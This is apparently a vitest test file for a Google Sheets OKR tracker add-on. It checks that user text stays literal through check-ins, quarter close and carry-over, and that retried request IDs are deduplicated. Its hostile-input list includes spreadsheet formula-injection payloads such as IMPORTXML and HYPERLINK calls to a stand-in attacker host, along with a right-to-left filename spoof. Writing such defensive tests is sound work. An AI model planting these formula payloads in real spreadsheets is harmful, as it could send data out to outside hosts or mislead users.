// A person's text goes in through the web app (the extension) and the sidebar, then through
// Close quarter (archive and Review sheet) and Start next period (carry-over): every string reads
// back as sent, and no cell anywhere holds a formula the add-on did not write itself. Sheets
// parses strings written by a script as typed unless the cell is plain text
// (https://developers.google.com/apps-script/reference/spreadsheet/range#setnumberformatnumberformat),
// and text starting with = + - @ tab or CR may run as a formula (https://owasp.org/www-community/attacks/CSV_Injection).
import { describe, expect, it } from 'vitest';
import { cellContent, mayRunAsFormula, personText } from '../../shared/cells/cell-text.js';
import { get, newTracker, post, publish, type Tracker } from './harness.js';

const LONG = 'x'.repeat(8192);

/** Hostile or ambiguous text; the last is too long for a note and goes in as a key result's title. */
const STRINGS = [
  '50%',
  'TRUE',
  'false',
  '1,200',
  '2026-01-05',
  '1/2/2026',
  '12:30:45',
  '0012',
  '1e5',
  '$5',
  "'quoted",
  "''twice",
  "'=1",
  '-5',
  '+1',
  '@SUM(A1)',
  '=1+1',
  '=IMPORTXML("http://evil.example","//a")',
  '=HYPERLINK("http://evil.example","click")',
  '\t=1',
  '\r=1',
  ' =1',
  '\n=1',
  '  leading and trailing  ',
  'line one\nline two',
  'bell\u0007 and nul\u0000 and esc\u001b',
  '\u202Egnp.exe',
  'lone \ud800 surrogate',
  'lone \udc00 low',
  'emoji 🎯📈',
  'family 👩\u200D👩\u200D👧 zwj',
  'zero\u200Bwidth',
  '＝1+1',
  'tab\tinside',
  LONG,
] as const;
const NOTES = STRINGS.filter((s) => s !== LONG);

const AMBIGUOUS_IDS = ['12345678', '00000042', '2026-11-23', '12:30:45', '9007199254740993', '1.000000', '-0000042', '1e500000', 'TRUE.FALSE'];

function allFormulas(t: Tracker): Map<string, string> {
  const found = new Map<string, string>();
  for (const sheet of t.spreadsheet.getSheets()) {
    sheet.getDataRange().getFormulas().forEach((row, r) => row.forEach((f, c) => f !== '' && found.set(`${sheet.getName()}!R${r + 1}C${c + 1}`, f)));
  }
  return found;
}

function column(t: Tracker, sheet: string, header: string): unknown[] {
  const values = t.spreadsheet.getSheetByName(sheet)!.getDataRange().getValues();
  const at = values[0].indexOf(header);
  return values.slice(1).map((row) => row[at]);
}

/** The cell holds exactly the text, or (for formula-like text) the text behind the guard's one "'". */
function expectStoredAs(cell: unknown, text: string): void {
  expect(typeof cell).toBe('string');
  expect(personText(cell)).toBe(text);
  expect(cell).toBe(mayRunAsFormula(text) ? `'${text}` : text);
}

describe('text round trip', () => {
  it('keeps every string as sent, through the web app, the sidebar, Close quarter and Start next period, with no formula', { timeout: 240_000 }, () => {
    expect(STRINGS.length).toBeGreaterThanOrEqual(30);
    const t = newTracker();
    try {
      const token = publish(t);
      const templateFormulas = new Set(allFormulas(t).values());
      const bundle = t.addOn.okrSheets;

      // Key results whose title, owner and unit are the strings, as a person types them ('…).
      const keyResults = t.spreadsheet.getSheetByName('Key Results')!;
      const headers = keyResults.getRange(1, 1, 1, keyResults.getLastColumn()).getValues()[0] as string[];
      const firstRow = column(t, 'Key Results', 'ID').filter((v) => v !== '').length + 2;
      const rows = STRINGS.map((s, i) => headers.map((h) => ({ ID: `T${i}`, Objective: 'O1', 'Key result': cellContent(s), Owner: cellContent(s), Type: 'increase', Start: 0, Target: 10, Unit: cellContent(s.slice(0, 40)) } as Record<string, unknown>)[h] ?? ''));
      const writable = headers.map((h) => ['ID', 'Objective', 'Key result', 'Owner', 'Type', 'Start', 'Target', 'Unit'].includes(h));
      rows.forEach((row, r) => row.forEach((value, c) => writable[c] && keyResults.getRange(firstRow + r, c + 1).setValue(value)));

      // Check-ins: each string as the note and the name, through the web app and the sidebar.
      NOTES.forEach((s, i) => {
        const answer = post(t, { token, id: `T${i}`, value: i, note: s, by: s, requestId: `web-note-${i}` });
        expect(answer.ok, JSON.stringify(answer)).toBe(true);
        expect([answer.checkIn.note, answer.checkIn.by]).toEqual([s, s]);
        const sidebar = t.addOn.okrSidebarCheckIn({ id: `T${i}`, value: i + 1, note: s, requestId: `side-note-${i}` });
        expect(sidebar.ok, JSON.stringify(sidebar)).toBe(true);
      });
      const tooLong = post(t, { token, id: 'T0', value: 1, note: LONG, requestId: 'web-note-long' });
      expect(tooLong.error?.code).toBe('bad-request');

      const log = t.spreadsheet.getSheetByName('Check-ins')!.getDataRange().getValues();
      const at = (h: string) => log[0].indexOf(h);
      const byRequest = new Map(log.slice(1).map((row) => [personText(row[at('Request ID')]), row]));
      NOTES.forEach((s, i) => {
        const web = byRequest.get(`web-note-${i}`)!;
        expectStoredAs(web[at('Note')], s);
        expectStoredAs(web[at('By')], s);
        expectStoredAs(byRequest.get(`side-note-${i}`)![at('Note')], s);
      });

      // The feed gives each note back as sent.
      const feed = get(t, { token, fresh: 'notes' });
      NOTES.forEach((s, i) => {
        const history = feed.keyResults.find((k: { id: string }) => k.id === `T${i}`).history;
        expect(history.map((h: { note: string }) => h.note)).toEqual([s, s]);
      });

      // Close quarter: the archive and the Review sheet keep the text.
      bundle.closeQuarter(t.spreadsheet, bundle.silentDialogs(true));
      const archived = t.spreadsheet.getSheetByName('2026-Q4')!.getDataRange().getValues().flat();
      for (const s of STRINGS) expect(archived.filter((v) => personText(v) === s).length, JSON.stringify(s.slice(0, 30))).toBeGreaterThanOrEqual(s === LONG ? 2 : 5);
      for (const s of STRINGS) expect(archived).toContain(mayRunAsFormula(s) ? `'${s}` : s);
      const review = t.spreadsheet.getSheetByName('Review 2026-Q4')!;
      const reviewValues = review.getDataRange().getValues();
      const title = reviewValues[0].indexOf('Title');
      const carry = reviewValues[0].indexOf('Carry over') + 1;
      STRINGS.forEach((s, i) => {
        const r = reviewValues.findIndex((row) => row[0] === `T${i}` || row[reviewValues[0].indexOf('ID')] === `T${i}`);
        expectStoredAs(reviewValues[r][title], s);
        review.getRange(r + 1, carry).setValue(true);
      });

      // Start next period: the carried key results keep their title, owner and unit.
      bundle.startNextPeriod(t.spreadsheet, bundle.silentDialogs(true), Date.UTC(2027, 0, 4, 15));
      const carried = new Map(t.records('Key Results').map((r) => [r.ID, r]));
      STRINGS.forEach((s, i) => {
        const row = carried.get(`T${i}-2027-Q1`)!;
        expect(row, `T${i}-2027-Q1`).toBeDefined();
        expectStoredAs(row['Key result'], s);
        expectStoredAs(row.Owner, s);
      });

      const unexpected = [...allFormulas(t)].filter(([, f]) => !templateFormulas.has(f));
      expect(unexpected).toEqual([]);
    } finally {
      t.runtime.destroy();
    }
  });

  it('writes one row for each retried request ID, however Sheets could read it', { timeout: 120_000 }, () => {
    const t = newTracker();
    try {
      const token = publish(t);
      const rowsOf = (id: string) => column(t, 'Check-ins', 'Request ID').filter((cell) => personText(cell) === id).length;
      for (const requestId of AMBIGUOUS_IDS) {
        const first = post(t, { token, id: 'KR6', value: 7, requestId });
        const again = post(t, { token, id: 'KR6', value: 7, requestId });
        expect([first.ok, first.duplicate ?? false, again.duplicate, again.checkIn?.requestId]).toEqual([true, false, true, requestId]);
        expect(rowsOf(requestId)).toBe(1);
      }
    } finally {
      t.runtime.destroy();
    }
  });

  it('matches a request ID that an older tracker stored as a number or a date', { timeout: 120_000 }, () => {
    const t = newTracker();
    try {
      const token = publish(t);
      const log = t.spreadsheet.getSheetByName('Check-ins')!;
      const width = log.getLastColumn();
      const headers = log.getRange(1, 1, 1, width).getValues()[0];
      const row = log.getLastRow() + 1;
      // Before the plain-text columns: the same strings written to automatic cells, parsed by Sheets.
      log.getRange(row, 1, 3, width).setNumberFormat('0.###############');
      const legacy = ['00000042', '2026-11-23', '12:30:45'].map((id) => headers.map((h) => ({ Time: new Date(2026, 10, 20), ID: 'KR6', Value: 3, 'Request ID': id } as Record<string, unknown>)[String(h)] ?? ''));
      log.getRange(row, 1, 3, width).setValues(legacy);
      const stored = log.getRange(row, headers.indexOf('Request ID') + 1, 3, 1).getValues().flat();
      expect(stored.map((v) => typeof v === 'string')).toEqual([false, false, false]);
      for (const requestId of ['00000042', '2026-11-23', '12:30:45']) expect(post(t, { token, id: 'KR6', value: 3, requestId }).duplicate).toBe(true);
      expect(log.getLastRow()).toBe(row + 2);
    } finally {
      t.runtime.destroy();
    }
  });

  it('answers conflict, not duplicate, when a request ID is reused for another key result', () => {
    const t = newTracker();
    try {
      const token = publish(t);
      expect(post(t, { token, id: 'KR6', value: 7, requestId: 'reused-0001' }).ok).toBe(true);
      const before = t.records('Check-ins').length;
      const answer = post(t, { token, id: 'KR2', value: 20, requestId: 'reused-0001' });
      expect(answer.error).toEqual({
        code: 'conflict',
        retry: false,
        message: 'Request ID "reused-0001" was already used for a check-in of KR6, so this check-in of KR2 was not saved: send it again with a new request ID.',
      });
      expect(t.records('Check-ins')).toHaveLength(before);
    } finally {
      t.runtime.destroy();
    }
  });
});
